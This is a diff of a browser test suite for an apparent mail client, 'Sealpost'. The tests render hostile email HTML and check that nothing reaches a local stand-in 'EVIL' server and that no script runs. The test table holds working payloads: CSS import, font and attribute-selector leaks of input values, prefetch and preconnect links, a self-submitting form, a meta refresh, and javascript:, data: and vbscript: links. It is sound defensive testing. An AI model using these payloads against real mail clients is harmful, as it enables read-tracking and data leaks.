@@ -18,7 +18,7 @@ const attacks: Readonly<Record<string, string>> = {
   'the history of CSS':
     '<style>@import "EVIL/import.css"; @font-face { font-family: x; src: url(EVIL/font.woff) } body { font-family: x; background: url(EVIL/bg.png) } a[href^="a"] { background: url(EVIL/leak?a) } input[value^="s"] { list-style: url(EVIL/leak?s) }</style><a href="a">x</a><input value="secret">',
   'links to resources':
-    '<link rel="stylesheet" href="EVIL/a.css"><link rel="preload" as="image" href="EVIL/p.png"><link rel="prefetch" href="EVIL/pf"><link rel="dns-prefetch" href="EVIL"><link rel="icon" href="EVIL/i.ico">',
+    '<link rel="stylesheet" href="EVIL/a.css"><link rel="preload" as="image" href="EVIL/p.png"><link rel="prefetch" href="EVIL/pf"><link rel="dns-prefetch" href="EVIL"><link rel="preconnect" href="EVIL"><link rel="icon" href="EVIL/i.ico">',
   'a form that sends itself':
     '<form id="f" action="EVIL/form" method="post"><input name="a" value="b"><button autofocus>Go</button></form><script>f.submit()</script>',
   'a refresh': '<meta http-equiv="refresh" content="0; url=EVIL/refresh">',
@@ -47,11 +47,14 @@ describe.skipIf(!hasChromium)('hostile mail', () => {
   let browser: ConsoleBrowser
   let evil: Server
   const asked: string[] = []
+  /** Connections without a request tell a server as well that somebody reads the message. */
+  let connections = 0
   beforeAll(async () => {
     evil = createServer((request, response) => {
       asked.push(request.url ?? '')
       response.end()
     }).listen(0, '127.0.0.1')
+    evil.on('connection', () => connections++)
     await once(evil, 'listening')
     http = await consoleLab()
     browser = await ConsoleBrowser.start()
@@ -96,7 +99,7 @@ describe.skipIf(!hasChromium)('hostile mail', () => {
     expect(await page.title()).toContain('Sealpost')
     expect(new URL(page.url()).origin).toBe(http.base)
     expect(frame?.url().startsWith(http.base)).toBe(true)
-    expect(asked).toEqual([])
+    expect([asked, connections]).toEqual([[], 0])
     await page.context().close()
   })
 
@@ -155,19 +158,26 @@ describe.skipIf(!hasChromium)('hostile mail', () => {
     await page.context().close()
   })
 
-  it('opens its links in a tab that does not know the console', async () => {
+  it('opens its links in a tab that does not know the console, and no script', async () => {
+    const script = '<script>opener.top.hacked=1</script>'
+    const scripts = ['javascript:top.hacked=1', `data:text/html,${script}`, `vbscript:${script}`]
     const { page } = await show(
       'link',
-      mail('link', `<a id="a" href="${url()}/clicked">Click</a><a id="b" href="javascript:top.hacked=1">b</a>`),
+      mail(
+        'link',
+        `<a id="a" href="${url()}/clicked">Click</a>${scripts.map((href) => `<p><a class="script" href="${href}">x</a>`).join('')}`,
+      ),
     )
+    const content = page.frameLocator('.frame-box iframe')
+    for (const link of await content.locator('.script').all()) await link.click()
     const [opened] = await Promise.all([
-      page.context().waitForEvent('page'),
-      page.frameLocator('.frame-box iframe').locator('#a').click(),
+      page.context().waitForEvent('page', (one) => one.url().startsWith(url())),
+      content.locator('#a').click(),
     ])
     await opened.waitForLoadState()
     expect(await opened.evaluate('[window.opener, document.referrer]')).toEqual([null, ''])
     expect(asked).toContain('/clicked')
-    await page.frameLocator('.frame-box iframe').locator('#b').click()
+    for (const tab of page.context().pages()) expect(tab.url()).not.toMatch(/^(?:data|javascript|vbscript):/)
     expect(await page.evaluate('window.hacked')).toBeUndefined()
     await page.context().close()
   })
